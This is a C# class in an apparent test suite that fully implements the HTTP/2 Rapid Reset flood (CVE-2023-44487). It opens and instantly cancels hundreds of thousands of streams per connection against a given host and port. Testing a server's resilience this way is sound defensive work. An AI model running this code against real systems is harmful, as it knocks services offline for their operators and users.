using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Longwave.BadDays.Tests.Attacks;

/// <summary>Opens HTTP/2 streams and resets each at once (CVE-2023-44487), over one connection after another.</summary>
internal sealed class RapidReset(string host, int port)
{
    private const int StreamsPerWrite = 100;
    private const int MaxStreamsPerConnection = 500_000;
    private const int FrameHeader = 9;
    private const int Cancel = 8;

    private enum FrameType : byte
    {
        Headers = 1,
        Reset = 3,
        Settings = 4,
    }

    /// <summary>Number of streams opened and reset.</summary>
    public long Streams { get; private set; }

    /// <summary>Number of connections that the server ended.</summary>
    public int ConnectionsEnded { get; private set; }

    private static ReadOnlySpan<byte> Preface => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8;

    /// <summary>Continues until cancelled, or until the given number of connections has ended.</summary>
    public async Task RunAsync(int connections, CancellationToken cancellation)
    {
        while (ConnectionsEnded < connections && !cancellation.IsCancellationRequested)
        {
            try
            {
                await AttackAsync(cancellation);
            }
            catch (Exception ended) when (ended is IOException or SocketException)
            {
                ConnectionsEnded++;
            }
            catch (OperationCanceledException)
            {
                return;
            }
        }
    }

    private async Task AttackAsync(CancellationToken cancellation)
    {
        using var client = new TcpClient { NoDelay = true };
        await client.ConnectAsync(host, port, cancellation);
        NetworkStream stream = client.GetStream();
        using var ended = new CancellationTokenSource();
        Task reading = ReadAsync(stream, ended);
        var first = new MemoryStream();
        first.Write(Preface);
        Write(first, FrameType.Settings, 0, 0, []);
        await stream.WriteAsync(first.ToArray(), cancellation);
        byte[] request = Request($"{host}:{port}");
        for (int id = 1; id < 2 * MaxStreamsPerConnection && !ended.IsCancellationRequested; id += 2 * StreamsPerWrite)
        {
            var frames = new MemoryStream();
            for (int i = 0; i < StreamsPerWrite; i++)
            {
                const byte EndHeadersAndStream = 0x5;
                Write(frames, FrameType.Headers, EndHeadersAndStream, id + (2 * i), request);
                Write(frames, FrameType.Reset, 0, id + (2 * i), [0, 0, 0, Cancel]);
            }

            await stream.WriteAsync(frames.ToArray(), cancellation);
            Streams += StreamsPerWrite;
        }

        client.Client.Shutdown(SocketShutdown.Both);
        await reading;
        ConnectionsEnded++;
    }

    /// <summary>Reads until the server ends the connection; unread bytes would block the other direction.</summary>
    private static async Task ReadAsync(NetworkStream stream, CancellationTokenSource ended)
    {
        byte[] buffer = new byte[64 * 1024];
        try
        {
            while (await stream.ReadAsync(buffer) > 0)
            {
                // Discard the frames: SETTINGS, RST_STREAM, GOAWAY.
            }
        }
        catch (Exception exception) when (exception is IOException or ObjectDisposedException)
        {
            // A reset is an end too.
        }

        await ended.CancelAsync();
    }

    /// <summary>Headers of a stream request in HPACK (RFC 7541): indexed if the static table contains them, otherwise literal.</summary>
    private static byte[] Request(string authority)
    {
        var block = new MemoryStream();
        block.Write([0x82, 0x86]);
        Literal(4, "/v1/events?topic=a");
        Literal(1, authority);
        return block.ToArray();

        void Literal(byte name, string value)
        {
            block.WriteByte(name);
            block.WriteByte((byte)value.Length);
            block.Write(Encoding.ASCII.GetBytes(value));
        }
    }

    private static void Write(MemoryStream stream, FrameType type, byte flags, int id, ReadOnlySpan<byte> payload)
    {
        Span<byte> header = stackalloc byte[FrameHeader];
        BinaryPrimitives.WriteInt32BigEndian(header, payload.Length << 8);
        (header[3], header[4]) = ((byte)type, flags);
        BinaryPrimitives.WriteInt32BigEndian(header[5..], id);
        stream.Write(header);
        stream.Write(payload);
    }
}
